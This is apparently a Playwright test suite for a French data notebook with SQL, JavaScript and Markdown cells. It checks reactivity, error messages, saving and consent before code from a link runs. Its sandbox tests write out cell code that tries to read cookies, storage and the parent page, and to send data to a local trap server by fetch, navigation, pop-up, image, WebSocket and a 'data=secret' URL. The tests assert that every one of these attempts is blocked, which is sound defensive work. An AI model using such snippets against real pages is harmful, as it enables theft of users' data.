// The notebook (/explorer) with its three kinds of cells in Chromium: SQL → Arquero → Plot →
// Markdown on the real data, reactivity (edit the SQL, the chart and the sentence follow; move a
// slider, the query follows), cycles and unknown names said on the cell, the reader's agreement
// before code from a link runs, the sandbox (no cookie, storage, page, navigation, pop-up or
// network), and « Arrêter » on a cell that loops forever.
import {readFileSync} from "node:fs";
import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import type {Frame, Page} from "playwright-core";
import {afterAll, afterEach, beforeAll, describe, expect, it} from "vitest";
import {type NotebookCell, jsCell, mdCell, sqlCell} from "../../src/lib/notebook/notebook.js";
import {encodeNotebook} from "../../src/lib/notebook/url-state.js";
import {type OpenedPage, openPage, problems, useBrowser} from "./browser.js";

useBrowser();
let opened: OpenedPage | undefined;
afterEach(async () => opened?.context.close());

// Another loopback port: a sandboxed cell must not reach it (nor anything else).
let trap: Server;
const hits: string[] = [];
let trapOrigin = "";
beforeAll(async () => {
  trap = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("pris");
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  trapOrigin = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => trap.close(() => resolve())));

const SQL_ERRORS = [/Catalog Error|Parser Error|Binder Error|query was canceled/];
const cell = (page: Page, n: number) => page.locator(".cell").nth(n - 1);

async function settled(page: Page, timeout = 40_000): Promise<void> {
  await page.waitForFunction(
    () =>
      document.querySelector(".cell") !== null &&
      document.querySelector('[aria-busy="true"]') === null &&
      document.querySelector('.cell[data-state="running"]') === null,
    null,
    {timeout}
  );
}

async function openNotebook(cells: NotebookCell[] | null, path = "/explorer"): Promise<Page> {
  const search = cells ? `?n=${await encodeNotebook({cells})}` : "";
  opened = await openPage(`${path}${search}`, {allowErrors: SQL_ERRORS});
  await settled(opened.page);
  return opened.page;
}

/** The sandbox frame of a cell (another origin: reached through Playwright, not the page). */
async function frameOf(page: Page, n: number): Promise<Frame> {
  const handle = await cell(page, n).locator("iframe.sandbox-frame").elementHandle({timeout: 20_000});
  const frame = await handle!.contentFrame();
  if (!frame) throw new Error(`cellule ${n} : pas de bac à sable`);
  return frame;
}

async function frameText(page: Page, n: number): Promise<string> {
  return (await frameOf(page, n)).locator("#root").innerText();
}

async function setText(page: Page, n: number, text: string): Promise<void> {
  await cell(page, n).locator(".cm-content").click();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(text);
}

async function run(page: Page, n: number): Promise<void> {
  await cell(page, n)
    .getByRole("button", {name: `Exécuter la cellule ${n}`})
    .click();
  await settled(page);
}

describe("a notebook of SQL, JavaScript and Markdown", () => {
  it(
    "runs the PLIE example: SQL, Arquero, Plot bars, a sentence naming the first commune; " +
      "editing the SQL updates them",
    async () => {
      const page = await openNotebook(null);
      await page.locator('[data-example="plie-pour-1000"]').click();
      await settled(page);
      expect(
        await page.locator(".cell").evaluateAll((cells) => cells.map((c) => (c as HTMLElement).dataset.kind))
      ).toEqual(["sql", "js", "js", "md"]);
      expect(await cell(page, 1).locator(".result-table tbody tr").count()).toBe(10);
      expect(await cell(page, 2).locator(".cell-status").textContent()).toBe("Définit « taux ».");
      const chart = await frameOf(page, 3);
      await expect.poll(() => chart.locator("svg g[aria-label='bar'] rect").count()).toBe(10);
      await expect
        .poll(() => frameText(page, 4))
        .toMatch(
          /^La Madeleine compte le plus de participants au PLIE rapportés à sa population : 4,77 pour 1\u202f000 habitants/
        );
      // Markdown: the name is bold, the numbers French.
      expect(await (await frameOf(page, 4)).locator("strong").first().textContent()).toBe("La Madeleine");

      // Edit the SQL: without La Madeleine, the chart has nine bars and the sentence another name.
      await setText(
        page,
        1,
        (await cell(page, 1).locator(".cm-content").innerText()) + "\n  AND c.nom <> 'La Madeleine'"
      );
      await run(page, 1);
      await expect.poll(() => chart.locator("svg g[aria-label='bar'] rect").count()).toBe(9);
      await expect.poll(() => frameText(page, 4)).not.toMatch(/^La Madeleine/);
      expect(await frameText(page, 4)).toMatch(/compte le plus de participants/);
      expect(problems(opened!)).toEqual({errors: [], failed: [], offOrigin: []});
    }
  );

  it("binds a slider's value to the SQL as a parameter: moving it re-runs the query and the sentence", async () => {
    const page = await openNotebook(null);
    await page.locator('[data-example="curseur"]').click();
    await settled(page);
    const before = await cell(page, 2).locator(".result-table tbody tr").count();
    await expect
      .poll(() => frameText(page, 3))
      .toMatch(new RegExp(`^${before} communes comptent au moins 40 participants`));
    const slider = (await frameOf(page, 1)).locator("input[type=number]");
    await slider.fill("100");
    await slider.dispatchEvent("input");
    await expect.poll(() => frameText(page, 3)).toMatch(/comptent au moins 100 participants/);
    await settled(page);
    const after = await cell(page, 2).locator(".result-table tbody tr").count();
    expect(after).toBeLessThan(before);
    expect(await frameText(page, 3)).toMatch(new RegExp(`^${after} communes`));
    expect(problems(opened!)).toEqual({errors: [], failed: [], offOrigin: []});
  });

  it(
    "says on the cell, in French, that a name is defined nowhere or that cells form a cycle; " + "the rest works",
    async () => {
      const page = await openNotebook([
        jsCell("const a = b + 1;"),
        jsCell("const b = a + 1;"),
        jsCell("inconnu * 2"),
        jsCell("const ok = 6 * 7;"),
        mdCell("Réponse : ${ok}")
      ]);
      await page.getByRole("button", {name: "Exécuter le code"}).click();
      await settled(page);
      for (const n of [1, 2])
        expect(await cell(page, n).locator(".cell-error").textContent()).toMatch(/Définition circulaire/);
      expect(await cell(page, 3).locator(".cell-error").textContent()).toContain(
        "« inconnu » n'est défini par aucune cellule"
      );
      await expect.poll(() => frameText(page, 5)).toBe("Réponse : 42");
    }
  );

  it("gives JavaScript cells a reactive width: a Plot follows the window, at 1280 and at 390 px", async () => {
    const page = await openNotebook([
      jsCell("Plot.plot({width, height: 60, marks: [Plot.ruleX([0, 1])]})"),
      mdCell("Largeur : ${width}")
    ]);
    await page.getByRole("button", {name: "Exécuter le code"}).click();
    await settled(page);
    const plotWidth = async () => Number(await (await frameOf(page, 1)).locator("svg").first().getAttribute("width"));
    const frameWidth = async () => (await frameOf(page, 1)).locator("#root").evaluate((e) => e.clientWidth);
    const wide = await frameWidth();
    expect(wide).toBeGreaterThan(500);
    await expect.poll(plotWidth).toBe(wide);
    await page.setViewportSize({width: 390, height: 800});
    await expect.poll(frameWidth).toBeLessThan(390);
    const narrow = await frameWidth();
    await expect.poll(plotWidth, {timeout: 10_000}).toBe(narrow);
    await expect.poll(() => frameText(page, 2)).toBe(`Largeur : ${narrow}`);
  });

  it("runs the code of a link only once the reader agrees", async () => {
    const page = await openNotebook([
      sqlCell("-- name: n\nSELECT 21 AS x"),
      jsCell("const double = n[0].x * 2;"),
      mdCell("Le double : ${double}")
    ]);
    const banner = page.getByRole("region", {name: "Code du carnet"});
    expect(await banner.textContent()).toContain(
      "Ce carnet contient du code écrit par la personne qui vous l'a envoyé"
    );
    // SQL ran (read-only), the code waits.
    expect(await cell(page, 1).locator(".result-table tbody td").textContent()).toBe("21");
    expect(await cell(page, 2).getAttribute("data-state")).toBe("consent");
    expect(await page.locator("iframe").count()).toBe(0);
    await page.getByRole("button", {name: "Exécuter le code"}).click();
    await expect.poll(() => frameText(page, 3).catch(() => "")).toBe("Le double : 42");
    expect(await banner.isHidden()).toBe(true);
  });
});

describe("files and « Mes carnets »", () => {
  it(
    "saves, renames, reopens and deletes a notebook; " + "downloads it for Observable and opens that file again",
    async () => {
      const page = await openNotebook(null);
      await page.locator('[data-example="plie-pour-1000"]').click();
      await settled(page);
      await page.locator(".my-notebooks summary").click();
      await page.getByLabel("Nom du carnet").fill("PLIE");
      await page.getByRole("button", {name: "Enregistrer", exact: true}).click();
      const titles = () => page.locator(".saved-list .saved-title").allTextContents();
      expect(await titles()).toEqual(["PLIE"]);
      await page.getByRole("button", {name: "Renommer « PLIE »"}).click();
      await page.getByLabel("Nouveau nom de « PLIE »").fill("PLIE 2022");
      await page.keyboard.press("Enter");
      await expect.poll(titles).toEqual(["PLIE 2022"]);

      const [download] = await Promise.all([
        page.waitForEvent("download"),
        page.getByRole("button", {name: "Télécharger pour Observable"}).click()
      ]);
      expect(download.suggestedFilename()).toBe("carnet-mno.html");
      const html = readFileSync((await download.path())!, "utf-8");
      expect(html).toMatch(/^<!doctype html>\n<notebook>\n {2}<title>PLIE 2022<\/title>/);
      expect(html).toContain('<script id="1" type="application/sql" output="participants">');
      expect(html).toContain('<script id="4" type="text/markdown">');

      await page.locator('[data-example="programmes"]').click();
      await settled(page);
      await page.getByRole("button", {name: "Ouvrir « PLIE 2022 »"}).click();
      await settled(page);
      expect(await page.locator(".cell").count()).toBe(4);
      // Saved here by the reader: it runs without asking.
      expect(await page.getByRole("region", {name: "Code du carnet"}).isHidden()).toBe(true);
      await expect.poll(() => frameText(page, 4)).toMatch(/^La Madeleine/);

      // The same notebook as a file from elsewhere: its code waits for the agreement.
      await page
        .getByLabel("Ouvrir un fichier")
        .setInputFiles({name: "carnet.html", mimeType: "text/html", buffer: Buffer.from(html)});
      await expect.poll(() => page.getByRole("region", {name: "Code du carnet"}).isVisible()).toBe(true);
      await expect.poll(() => page.locator(".cell").count()).toBe(4);
      await settled(page);
      expect(await cell(page, 2).getAttribute("data-state")).toBe("consent");

      await page.getByRole("button", {name: "Supprimer « PLIE 2022 »"}).click();
      await expect.poll(titles).toEqual([]);
      expect(await page.evaluate(() => JSON.parse(localStorage.getItem("observatoire-mno:carnets") ?? "null"))).toEqual(
        []
      );
    }
  );
});

describe("what a new user met", () => {
  it(
    "says DuckDB's errors in French with the original below, reports SELEC as a syntax error, " +
      "closes the completion on Ctrl+Entrée",
    async () => {
      const page = await openNotebook(null);
      await setText(page, 1, "SELECT populaton FROM communes");
      await run(page, 1);
      const error = cell(page, 1).locator(".cell-error");
      expect(await error.locator("p").first().textContent()).toBe(
        "Colonne inconnue « populaton » : vouliez-vous dire « population » ? (ligne 1)"
      );
      expect(await error.locator("details pre").textContent()).toMatch(
        /^Binder Error: Referenced column "populaton" not found/
      );
      await setText(page, 1, "SELEC * FROM communes");
      await run(page, 1);
      expect(await error.locator("p").first().textContent()).toBe(
        "Erreur de syntaxe : « SELEC » ne commence aucune instruction SQL."
      );
      expect(await error.textContent()).toContain("Vouliez-vous dire « SELECT » ?");
      expect(await error.textContent()).not.toMatch(/lecture seule/);

      await setText(page, 1, "SELECT nom FROM comm");
      await page.keyboard.press("Control+Space");
      await expect.poll(() => page.locator(".cm-tooltip-autocomplete").count()).toBe(1);
      await page.keyboard.press("Escape");
      await page.keyboard.insertText("unes");
      await page.keyboard.press("Control+Space");
      await page.keyboard.press("Control+Enter");
      await settled(page);
      expect(await page.locator(".cm-tooltip-autocomplete").count()).toBe(0);
      expect(await cell(page, 1).locator(".result-table tbody tr").count()).toBe(10);
    }
  );
});

describe("the sandbox", () => {
  it(
    "keeps a cell away from the page's cookies, storage and DOM, " + "from navigation, pop-ups and the network",
    async () => {
      opened = await openPage("/explorer", {
        allowErrors: [...SQL_ERRORS, /Content Security Policy|Failed to fetch|ERR_BLOCKED|sandboxed|navigat/i]
      });
      const page = opened.page;
      await settled(page);
      await page.evaluate(() => {
        document.cookie = "secret=site";
        localStorage.setItem("secret", "site");
      });
      const attempts: [string, string][] = [
        ["cookie", "document.cookie"],
        ["parent", "parent.document.title"],
        ["storage", "localStorage.getItem('secret')"],
        ["top", `(top.location.href = "${trapOrigin}/top", "navigué")`],
        ["fetch", `await fetch("${trapOrigin}/fetch").then((r) => r.text())`],
        ["open", `window.open("${trapOrigin}/open") ?? "pas de fenêtre"`],
        [
          "image",
          "await new Promise((resolve) => { const i = new Image(); " +
            'i.onload = () => resolve("chargée"); i.onerror = () => resolve("bloquée"); ' +
            `i.src = "${trapOrigin}/img"; })`
        ],
        [
          "socket",
          `await new Promise((resolve) => { try { const s = new WebSocket("${trapOrigin.replace("http", "ws")}/ws"); ` +
            's.onopen = () => resolve("ouvert"); s.onerror = () => resolve("bloqué"); ' +
            '} catch (e) { resolve("bloqué"); } })'
        ]
      ];
      const link = `?n=${await encodeNotebook({cells: attempts.map(([, code]) => jsCell(code))})}`;
      await page.goto(opened.url(`/explorer${link}`));
      await settled(page);
      const pages = opened.context.pages().length;
      await page.getByRole("button", {name: "Exécuter le code"}).click();
      await settled(page);
      await page.waitForTimeout(500);
      const outcome = async (n: number) =>
        (await cell(page, n).locator(".cell-error").count())
          ? `erreur: ${await cell(page, n).locator(".cell-error").textContent()}`
          : await frameText(page, n);
      expect(await outcome(1)).toMatch(/erreur:.*SecurityError.*sandboxed/);
      expect(await outcome(2)).toMatch(/erreur:.*SecurityError.*cross-origin/);
      expect(await outcome(3)).toMatch(/erreur:.*SecurityError/);
      expect(await outcome(4)).toMatch(/erreur:.*SecurityError.*navigate/);
      expect(await outcome(5)).toMatch(/erreur:.*TypeError.*Failed to fetch/);
      expect(await outcome(6)).toMatch(/pas de fenêtre/);
      expect(await outcome(7)).toMatch(/bloquée/);
      expect(await outcome(8)).toMatch(/bloqué/);
      expect(hits).toEqual([]);
      expect(opened.offOrigin).toEqual([]);
      expect(opened.context.pages().length).toBe(pages);
      expect(new URL(page.url()).pathname).toBe("/explorer");
      expect(await page.evaluate(() => [document.cookie, localStorage.getItem("secret"), localStorage.length])).toEqual(
        ["secret=site", "site", 1]
      );
    }
  );

  it("cannot leave through its own iframe's address either", async () => {
    const page = await openNotebook([
      jsCell(`location.href = "${trapOrigin}/self?data=" + encodeURIComponent("secret"); "parti"`)
    ]);
    await page.getByRole("button", {name: "Exécuter le code"}).click();
    await page.waitForTimeout(1500);
    expect(hits).toEqual([]);
    expect(opened!.offOrigin).toEqual([]);
  });

  it("stops a cell that loops forever with « Arrêter », without reloading the page", async () => {
    const page = await openNotebook([jsCell("const n = 1;"), jsCell("for (;;) {}"), jsCell("n + 1")]);
    await page.getByRole("button", {name: "Exécuter le code"}).click();
    const looping = cell(page, 2);
    await expect.poll(() => looping.getAttribute("data-state")).toBe("running");
    await page.waitForTimeout(1500);
    expect(await looping.getAttribute("data-state")).toBe("running");
    // The page still answers while the cell loops (the sandboxes are another process).
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await looping.getByRole("button", {name: "Arrêter la cellule 2"}).click();
    await expect.poll(() => looping.getAttribute("data-state")).toBe("error");
    expect(await looping.locator(".cell-error").textContent()).toContain("Exécution arrêtée");
    // The other code cells run again in new sandboxes.
    await expect.poll(() => frameText(page, 3).catch(() => "")).toBe("2");
    // The cell can be fixed and run again, in a new sandbox.
    await setText(page, 2, "n * 10");
    await run(page, 2);
    await expect.poll(() => frameText(page, 2)).toBe("10");
  });
});
